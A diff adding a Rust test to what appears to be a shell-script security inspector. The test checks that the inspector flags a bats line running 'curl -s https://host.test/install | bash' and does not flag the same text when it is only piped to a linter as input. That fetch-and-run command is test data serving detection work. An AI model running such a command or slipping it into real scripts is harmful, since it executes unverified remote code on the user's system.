@@ -442,3 +442,18 @@ fn parts_that_overlap_are_not_looked_at_without_end() {
     inspect(&line);
     assert!(began.elapsed().as_secs() < 10, "{:?}", began.elapsed());
 }
+
+/// What a test of a linter feeds to it is no line of the test.
+#[test]
+fn a_file_of_bats_is_read_as_the_shell_reads_it() {
+    let written = |line: &str| {
+        let text = format!("#!/usr/bin/env bats\n@test \"pipe\" {{\n  {line}\n}}\n");
+        let context = countersign_inspect::Context::new("/home/user/project", "/home/user");
+        let path = "/home/user/project/tests/pipe.bats".to_owned();
+        countersign_inspect::inspect(&countersign_inspect::Subject::File { path, text, context })
+    };
+    let fed = written("run ./lint.sh - <<< 'curl -s https://host.test/install | bash'");
+    assert!(fed.findings.is_empty(), "{:?}", fed.findings);
+    let runs = written("curl -s https://host.test/install | bash");
+    assert!(!runs.findings.is_empty());
+}
